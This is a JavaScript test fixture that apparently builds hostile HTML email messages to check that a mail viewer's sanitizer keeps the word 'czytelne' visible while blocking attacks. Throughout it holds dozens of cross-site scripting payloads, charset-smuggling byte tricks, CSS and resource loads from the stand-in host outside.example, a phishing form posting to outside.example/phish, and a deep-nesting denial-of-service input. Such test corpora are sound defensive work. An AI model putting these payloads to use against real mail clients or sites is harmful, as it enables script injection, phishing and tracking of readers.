// Messages made to do harm in the reader's browser. Each tries to run a script, to reach outside.example, to cover our
// page or to take it away. What a reader should still see is the word "czytelne".
import { attacks, OUT, run } from "./attacks.mjs";
import { message } from "./mail.mjs";

/** Name and HTML of those that were thought up one by one. */
const alone = [
  ["a script", `<script>${run}</script><p>czytelne</p>`],
  ["a script from elsewhere", `<script src="${OUT}/a.js"></script><p>czytelne</p>`],
  ["a script in broken tags", `<scr<script>ipt>${run}</scr</script>ipt><p>czytelne</p>`],
  ["an error handler", `<img src="x" onerror="${run}"><p>czytelne</p>`],
  ["handlers without quotes or spaces", `<p>czytelne</p><svg/onload=${run}><body onload=${run}><input autofocus onfocus=${run}>`],
  ["a script in a picture", `<svg><script>${run}</script><a xlink:href="javascript:${run}"><text y="9">x</text></a></svg><p>czytelne</p>`],
  ["animated attributes", `<svg><a><animate attributeName="href" values="javascript:${run}"/><text y="9">klik</text></a></svg><p>czytelne</p>`],
  ["foreign content that mends itself", `<p>czytelne</p><math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${run}>">`],
  ["a comment that is none", `<!--><img src=x onerror=${run}>--><p>czytelne</p>`],
  ["a template and noscript", `<template><img src=x onerror=${run}></template><noscript><p title="</noscript><img src=x onerror=${run}>"></noscript><p>czytelne</p>`],
  ["an address that runs", `<a href="javascript:${run}">czytelne</a> <a href="jav&#x09;ascript:${run}">x</a> <a href=" data:text/html,<script>${run}</script>">y</a>`],
  ["addresses in styles", `<style>body{background:url(${OUT}/bg.png)} @import "${OUT}/a.css"; @font-face{font-family:x;src:url(${OUT}/f.woff)} p{font-family:x}</style><p style="background-image:url('${OUT}/p.png')">czytelne</p>`],
  ["addresses hidden in styles", `<p style="background:u\\72 l(${OUT}/e.png);list-style:url(&quot;${OUT}/l.png&quot;);content:image-set('${OUT}/i.png' 1x)">czytelne</p>`],
  ["a style sheet from elsewhere", `<link rel="stylesheet" href="${OUT}/a.css"><link rel="preload" as="image" href="${OUT}/p.png"><link rel="dns-prefetch" href="//outside.example"><link rel="preconnect" href="${OUT}"><link rel="prefetch" href="${OUT}/n"><p>czytelne</p>`],
  ["a page that moves on", `<meta http-equiv="refresh" content="0;url=${OUT}/moved"><p>czytelne</p>`],
  ["a form", `<form action="${OUT}/phish" method="post"><p>czytelne</p><input name="password" type="password"><button>Zaloguj</button></form><button formaction="${OUT}/f">x</button>`],
  ["another base", `<base href="${OUT}/"><p>czytelne</p><img src="rel.png"><a href="rel">x</a>`],
  ["frames", `<iframe src="${OUT}/frame"></iframe><iframe srcdoc="<script>${run}</script>"></iframe><frameset><frame src="${OUT}/f"></frameset><p>czytelne</p>`],
  ["objects", `<object data="${OUT}/o.swf"></object><embed src="${OUT}/e.svg"><applet code="x"></applet><p>czytelne</p>`],
  ["media", `<video src="${OUT}/v.mp4" poster="${OUT}/v.png" autoplay></video><audio src="${OUT}/a.mp3" autoplay></audio><picture><source srcset="${OUT}/s.png"><img src="${OUT}/i.png" srcset="${OUT}/i2.png 2x" alt=""></picture><p>czytelne</p>`],
  ["old ways to fetch", `<table background="${OUT}/t.png"><tr><td background="${OUT}/td.png">czytelne</td></tr></table><input type="image" src="${OUT}/in.png"><img dynsrc="${OUT}/d" lowsrc="${OUT}/l"><a href="https://kronika.example" ping="${OUT}/ping">x</a>`],
  ["a cover over the page", `<div style="position:fixed;inset:0;z-index:99999;background:red">Zaloguj się ponownie</div><p>czytelne</p>`],
  ["data addresses", `<img src="data:text/html,<script>${run}</script>"><img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>"><iframe src="data:text/html,<script>${run}</script>"></iframe><p>czytelne</p>`],
  ["pictures in pictures", `<svg><image href="${OUT}/s.png"/><use href="${OUT}/u.svg#a"/><filter id="f"><feImage href="${OUT}/fe.png"/></filter></svg><p>czytelne</p>`],
  ["a message within a message", `<div><div><div><iframe srcdoc="&lt;iframe srcdoc='&amp;lt;img src=${OUT}/nested.png&amp;gt;'&gt;"></iframe></div></div></div><p>czytelne</p>`],
  ["the end of our own page", `</body></html></iframe></details></main><script>${run}</script><img src="${OUT}/x.png"><p>czytelne</p>`],
  ["our own addresses", `<img src="/sign-out"><form action="/sign-out" method="post"><button id="out">x</button></form><img src="/interactions/1/parts/1"><p>czytelne</p>`],
  ["names of our own parts", `<div id="main"></div><form id="picker"><input name="action"></form><img name="htmx"><a id="htmx"></a><p hx-get="/clients" hx-trigger="load" data-act="assign" data-unfold="open">czytelne</p>`],
  ["ten thousand layers", `${"<div>".repeat(10_000)}<p>czytelne</p>`],
];

const bang = `<img src=x onerror="${run}"><script>${run}</script>`;
const utf16 = (text, big) => (big ? Buffer.from(text, "utf16le").swap16() : Buffer.from(text, "utf16le"));
const utf7 = (text) => text.replace(/[<>"=;:/']/g, (c) => `+${utf16(c, true).toString("base64").replace(/=+$/, "")}-`);
const seen = "<p>czytelne</p>";

/** Bytes that say something else in another charset than the one they claim, or than the one a browser guesses. */
const charsets = [
  ["utf-7", utf7(bang) + "czytelne"],
  ["us-ascii", `<meta charset=utf-7>${utf7(bang)}czytelne`],
  ["utf-8", `<meta http-equiv=content-type content="text/html;charset=utf-7">${utf7(bang)}${seen}`],
  ["utf-16le", utf16(seen + bang, false)],
  ["utf-16be", utf16(seen + bang, true)],
  ["utf-16", Buffer.concat([Buffer.from([0xfe, 0xff]), utf16(seen + bang, true)])],
  ["utf-8", Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(seen + bang)])],
  ["iso-2022-jp", `${seen}<img alt="\x1b$B" src=x title="\x1b(B onerror=${run} ">`],
  ["iso-2022-jp", `${seen}\x1b(J<img title="\\" onerror=${run} src=x>`],
  ["shift_jis", Buffer.concat([Buffer.from(`${seen}<img alt="`), Buffer.from([0x81]), Buffer.from(`" src=x onerror="${run}">`)])],
  ["gb2312", Buffer.concat([Buffer.from(`${seen}<img alt='`), Buffer.from([0x82]), Buffer.from(`' onerror=${run} src=x>`)])],
  ["big5", Buffer.concat([Buffer.from(`${seen}<a title="`), Buffer.from([0xa1]), Buffer.from(`" href="javascript:${run}">x</a>`)])],
  ["utf-8", Buffer.concat([Buffer.from(seen), Buffer.from([0xc0, 0xbc]), Buffer.from(`img src=x onerror="${run}">`), Buffer.from([0xe0, 0x80, 0xbc]), Buffer.from("script>")])],
  ["x-user-defined", `${seen}${bang}`],
  ["replacement", `${seen}${bang}`],
  ["x'\"><script>", `${seen}${bang}`],
];

/** Pictures within the message that are none. */
const picture = (id, type = "image/png", body = bang) => ({ type, name: `${id}.png`, id: `${id}@x`, body });
const inside = [
  [`<img src="cid:a@x">`, [picture("a", "text/html")]],
  [`<img src="cid:a@x">`, [picture("a", "image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"><image href="${OUT}/svg"/></svg>`)]],
  [`<img src="cid:a@x">`, [picture("a", "image/png", `<html>${bang}`)]],
  [`<img src='cid:a"onerror="${run}@x'>`, [picture('a"onerror="x')]],
  [`<iframe src="cid:a@x"></iframe><object data="cid:a@x"></object><a href="cid:a@x">x</a>`, [picture("a", "text/html")]],
  [`<img src="cid:../../../../sign-out"><img src="cid:/sign-out"><img src="cid://outside.example/x">`, [picture("a")]],
  [`<link rel=stylesheet href="cid:a@x"><style>@import "cid:a@x"</style><script src="cid:a@x"></script>`, [picture("a", "text/css", `*{background:url(${OUT}/css)}`)]],
  [`<img src="mid:1@x/a@x"><img src="content-location:a"><img src="thismessage:/a.png"><img src="a@x.png">`, [picture("a")]],
  [`<img src="cid:a%40x"><img src="CID:A@X"><img src="cid:a@x#${OUT}"><img src="cid:a@x?${OUT}">`, [picture("a", "application/xhtml+xml")]],
];

/** What stands where no markup belongs: in subjects, names, addresses, names of files, and the words that a search shows. */
const texts = [
  `<script>${run}</script>`, `"><img src=x onerror=${run}>`, `'><svg/onload=${run}>`, `</title></textarea></style><script>${run}</script>`,
  `" autofocus onfocus=${run} x="`, `' autofocus onfocus=${run} x='`, `javascript:${run}`, `\u202e\u2066<b>\u200f<img src=x onerror=${run}>`,
  `{{constructor.constructor('top.pwned=1')()}}\${top.pwned=1}<%=1%>`, `&lt;script&gt;${run}&lt;/script&gt;`, `&#60;img src=x onerror=${run}&#62;`,
  `--><img src=x onerror=${run}><!--`, `]]><img src=x onerror=${run}>`, `<mark><img src=x onerror=${run}></mark>`, `<a href="javascript:${run}">x</a>`,
  `\u0000<\u0000img src=x onerror=${run}>`, `<iframe srcdoc="<script>${run}</script>">`, `<meta http-equiv=refresh content="0;url=${OUT}">`,
  `${"<b>".repeat(400)}<img src=x onerror=${run}>`, `＜script＞${run}＜/script＞`,
];

const word = (text) => `=?utf-8?B?${Buffer.from(text).toString("base64")}?=`;
const from = "Wróg <wrog@outside.example>";

/** All of them as messages; `name` says what each tries. */
export const letters = [
  ...alone.map(([name, html]) => ({ name, html })),
  ...attacks,
  ...charsets.map(([charset, body], n) => ({ name: `the charset ${charset}, ${n}`, html: { type: `text/html; charset="${charset}"`, body } })),
  ...inside.map(([html, parts], n) => ({ name: `a picture that is none, ${n}`, html: seen + html, parts })),
  ...texts.map((text, n) => ({
    name: `markup where none belongs, ${n}`,
    html: seen + text,
    text: `znacznikowo ${text} znacznikowo`,
    from: `${word(text)} <wrog@outside.example>`,
    to: `${word(text)} <"${text.replace(/[^\x20-\x7e]|["\\]/g, "").slice(0, 60)}"@lipowa7.example>`,
    subject: text,
    parts: [
      { type: "text/html", name: text.replace(/["\\\0]/g, "'"), body: bang },
      { type: "image/svg+xml", name: `${n}.svg`, body: `<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>` },
      { type: "application/pdf", name: `${n}.pdf`, body: `%PDF-1.4 ${bang}` },
      { type: "text/plain", name: `${n}.txt`, body: bang },
    ],
  })),
].map(({ name, subject, ...rest }, n) => ({
  name,
  html: rest.html,
  parts: rest.parts ?? [],
  // What is in no charset at all cannot be read, only be harmless.
  expected: /the charset (utf-16|replacement), /.test(name) ? undefined : "czytelne",
  bytes: message({ from, text: "", ...rest, subject: `Wrogi ${n}: ${subject ?? name}`.replaceAll("\0", "") }),
}));
